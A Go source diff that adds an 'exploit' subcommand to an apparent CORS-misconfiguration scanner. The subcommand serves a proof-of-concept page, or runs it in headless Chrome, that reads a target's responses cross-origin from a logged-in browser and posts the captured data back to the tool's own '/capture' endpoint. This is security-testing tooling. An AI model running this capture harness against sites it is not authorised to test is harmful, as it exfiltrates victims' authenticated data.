@@ -0,0 +1,149 @@
+package main
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"log"
+	"net"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/spf13/cobra"
+)
+
+// captureEvent is what a PoC page reports back after its cross-origin read.
+type captureEvent struct {
+	Blocked bool
+	Data    string
+}
+
+// pocServer serves the PoC for one finding together with the endpoint the
+// page reports its outcome to.
+type pocServer struct {
+	URL      string
+	captures chan captureEvent
+	server   *http.Server
+}
+
+func startPoCServer(result ScanResult, listen string) (*pocServer, error) {
+	listener, err := net.Listen("tcp", listen)
+	if err != nil {
+		return nil, fmt.Errorf("cannot listen on %s: %v", listen, err)
+	}
+
+	s := &pocServer{
+		URL:      "http://" + listener.Addr().String() + "/",
+		captures: make(chan captureEvent, 1),
+	}
+	page := buildPoC(result, s.URL+"capture")
+
+	mux := http.NewServeMux()
+	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+		io.WriteString(w, page)
+	})
+	mux.HandleFunc("/capture", func(w http.ResponseWriter, r *http.Request) {
+		// Null-origin PoCs report from an opaque origin.
+		w.Header().Set("Access-Control-Allow-Origin", "*")
+		if r.Method != "POST" {
+			return
+		}
+		data, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
+		select {
+		case s.captures <- captureEvent{Blocked: r.URL.Query().Get("blocked") != "", Data: string(data)}:
+		default:
+		}
+	})
+
+	s.server = &http.Server{Handler: mux}
+	go s.server.Serve(listener)
+	return s, nil
+}
+
+// wait blocks until the PoC reports back or the timeout expires.
+func (s *pocServer) wait(timeout time.Duration) (captureEvent, bool) {
+	select {
+	case event := <-s.captures:
+		return event, true
+	case <-time.After(timeout):
+		return captureEvent{}, false
+	}
+}
+
+func (s *pocServer) Close() {
+	s.server.Close()
+}
+
+func newExploitCmd() *cobra.Command {
+	var input, findingID, listen, chromePath string
+	var wait time.Duration
+	var headless bool
+
+	cmd := &cobra.Command{
+		Use:   "exploit",
+		Short: "Serve a live PoC for a stored finding and confirm cross-origin data is received",
+		Run: func(cmd *cobra.Command, args []string) {
+			if input == "" || findingID == "" {
+				log.Fatal("please specify --input and --finding")
+			}
+
+			loaded, err := loadResults(input)
+			if err != nil {
+				log.Fatal(err)
+			}
+			finding, err := findResult(loaded, findingID)
+			if err != nil {
+				log.Fatal(err)
+			}
+
+			var event captureEvent
+			var ok bool
+			if headless {
+				fmt.Printf("[*] Loading the PoC for %s in headless Chrome as origin %s...\n", finding.URL, finding.Origin)
+				event, ok, err = runHeadlessPoC(context.Background(), finding, chromePath, config.Proxy, wait)
+				if err != nil {
+					log.Fatalf("Error running headless Chrome: %v", err)
+				}
+			} else {
+				server, err := startPoCServer(finding, listen)
+				if err != nil {
+					log.Fatal(err)
+				}
+				defer server.Close()
+
+				fmt.Printf("[*] Serving PoC for %s at %s\n", finding.URL, server.URL)
+				if finding.Origin != "null" {
+					fmt.Printf("[*] The page is served from %s; the target must accept that origin,\n", strings.TrimSuffix(server.URL, "/"))
+					fmt.Printf("    or host it on %s for a faithful reproduction.\n", finding.Origin)
+				}
+				fmt.Printf("[*] Open it in a browser that is logged in to the target. Waiting up to %s...\n", wait)
+				event, ok = server.wait(wait)
+			}
+
+			switch {
+			case !ok:
+				fmt.Println("[-] No report from the PoC page before the timeout.")
+			case event.Blocked:
+				fmt.Printf("[-] The browser blocked the cross-origin read: %s\n", event.Data)
+			default:
+				fmt.Printf("[+] Exploit confirmed: received %d bytes of cross-origin response data.\n", len(event.Data))
+				preview := event.Data
+				if len(preview) > 500 {
+					preview = preview[:500] + "..."
+				}
+				fmt.Println(preview)
+			}
+		},
+	}
+
+	cmd.Flags().StringVar(&input, "input", "", "specify the results file (JSON or CSV) containing the finding")
+	cmd.Flags().StringVar(&findingID, "finding", "", "specify the finding fingerprint or its number in the results listing")
+	cmd.Flags().StringVar(&listen, "listen", "127.0.0.1:8000", "specify the address to serve the PoC on")
+	cmd.Flags().DurationVar(&wait, "wait", 5*time.Minute, "specify how long to wait for the PoC to report back")
+	cmd.Flags().BoolVar(&headless, "headless", false, "load the PoC in headless Chrome instead of waiting for a browser to open it")
+	cmd.Flags().StringVar(&chromePath, "chrome-path", "", "specify the Chrome or Chromium binary for --headless (default: search PATH)")
+
+	return cmd
+}